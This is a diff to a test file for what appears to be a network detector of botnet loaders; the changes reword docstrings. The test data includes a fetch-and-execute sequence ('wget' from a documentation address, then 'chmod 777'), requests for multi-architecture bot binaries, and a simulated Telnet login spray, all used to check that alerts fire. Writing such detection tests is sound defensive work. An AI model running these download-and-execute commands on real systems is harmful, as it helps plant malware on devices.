@@ -1,4 +1,4 @@
-"""Loaders of botnets: by telnet, by web pages, by what they fetch, by their spray; innocent twins; repetition."""
+"""Botnet loaders: over Telnet, in web requests, by downloads, by login sprays; similar benign traffic; repetition."""
 
 from __future__ import annotations
 
@@ -76,7 +76,7 @@ def test_lines_that_plant_a_program(line: str, severity: Severity) -> None:
 
 
 def test_signs_add_up_over_a_session() -> None:
-    """Fetched by one line, run by another; a line of another session changes nothing."""
+    """A download in one line and its execution in another raise an alert; lines of other sessions do not count."""
     found = reported([typed("wget http://203.0.113.9/l"), typed("chmod 777 l", 1), typed("chmod 777 x", 1, flow=2)])
     assert [alert.severity for alert in found] == [Severity.medium, Severity.high, Severity.low]
 
@@ -89,7 +89,7 @@ def test_a_web_page_that_takes_commands() -> None:
 
 
 def test_programs_for_several_processors() -> None:
-    """Three from a bare address; of a device one is enough; by whatever protocol."""
+    """Programs for three processors from a bare address raise an alert, over any protocol; for a device, one does."""
     alert = one(
         reported(
             [request(f"/bins/l.{each}", source=NEAR, at=n) for n, each in enumerate(("mips", "arm7", "x86", "sh4"))]
@@ -111,7 +111,7 @@ def test_programs_for_several_processors() -> None:
 
 @pytest.mark.parametrize("answer", [True, False])
 def test_a_spray_of_telnet_logins(answer: bool) -> None:
-    """At five hosts; graver from a device and from outside."""
+    """Telnet logins at five hosts raise an alert, more severe for a device and for an external host."""
     hosts = [login(f"10.0.3.{n}", n, answer=answer) for n in range(1, 7)]
     alert = one(reported(hosts))
     assert (alert.actor.address, alert.severity, alert.numbers["hosts"]) == (parse(NEAR), Severity.medium, 5)
@@ -136,8 +136,8 @@ def test_a_spray_of_telnet_logins(answer: bool) -> None:
     ],
 )
 def test_benign_twins_are_quiet(events: list[Event]) -> None:
-    """A toolbox used, a password forgotten, rounds of an administrator, mirrors of packages, firmware, one program of a
-    computer, words in pages.
+    """BusyBox commands, a mistyped password, an administrator's logins, package mirrors, firmware, a single program of
+    a computer, and shell words in web pages raise no alert.
     """
     assert reported(events, device("camera", CAMERA)) == []
 
